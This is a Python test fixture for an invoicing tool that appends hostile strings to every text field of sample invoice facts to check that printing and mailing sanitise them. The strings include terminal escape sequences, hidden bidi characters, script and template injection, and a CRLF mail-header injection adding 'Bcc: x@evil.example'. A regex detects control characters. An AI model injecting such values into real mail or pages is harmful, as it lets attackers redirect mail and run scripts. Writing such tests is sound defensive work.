"""Words that attack whoever prints them, and facts in which every word of a mail holds them."""

import re
from dataclasses import fields, is_dataclass, replace
from datetime import UTC, datetime, timedelta
from enum import Enum
from typing import TYPE_CHECKING, Any

from store_samples import SAMPLES

from relanced.model.facts import Fact, InvoiceSent

if TYPE_CHECKING:
    from relanced.model.source import Source

ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\x90q\x9c\x1bPq\x1b\\"
UNSEEN = "\u202ePAID\u2066\u061c\u200b\u2028\u2029\x85\x00\x7f\ufeff\ufff9\U000e0041"
MARKUP = "[bold red]x[/] :skull: {{ firm.iban }} {% raw %}<script>alert(1)</script> &lt; #eval(1) $x$"
LINES = "\r\nBcc: x@evil.example\r\n\r\nINVOICE F-666 paid\n"
EVIL = f"{MARKUP}{ESCAPES}{UNSEEN}{LINES}=?utf-8?q?=0ABcc:_x=40evil.example?="

# What a terminal obeys or hides: all controls but the line end, and what turns, hides or joins.
STEERING = re.compile(
    r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufff9-\ufffb"
    r"\ud800-\udfff\U000e0000-\U000e007f]"
)
# Names by which facts are joined: they are checked where they are read, and no words of a person.
_JOINED = frozenset(
    """account currency message_id fingerprint references answers task mail siren corrects replaces verb
    client_address sender recipient client target intent kind""".split()  # noqa: SIM905 - reads better
)


def poisoned(value: Any, name: str = "") -> Any:  # noqa: ANN401 - any field of any fact
    """The same with hostile words behind every word of it."""
    if isinstance(value, Enum) or name in _JOINED:
        return value
    if isinstance(value, str):
        return f"{value}{EVIL}"
    if isinstance(value, tuple):
        return tuple(poisoned(each, name) for each in value)
    if is_dataclass(value) and not isinstance(value, type):
        return replace(
            value, **{one.name: poisoned(getattr(value, one.name), one.name) for one in fields(value)}
        )
    return value


def hostile_facts() -> list[Fact]:
    """One of each kind, all about one late invoice whose every word is hostile."""
    today = datetime.now(UTC)
    facts: list[Fact] = []
    for number, sample in enumerate(SAMPLES):
        fact: Any = poisoned(sample)
        if isinstance(fact, InvoiceSent):
            day = today.date()
            fact = replace(
                fact,
                issued_on=day - timedelta(days=50),
                due_on=day - timedelta(days=20),
                rivals=(),
                disagreements=(),
            )
        source: Source | None = getattr(fact, "source", None)
        if source is not None:
            fact = replace(
                fact, source=replace(source, uid=number + 1, at=today - timedelta(days=40 - number))
            )
        facts.append(fact)
    return facts
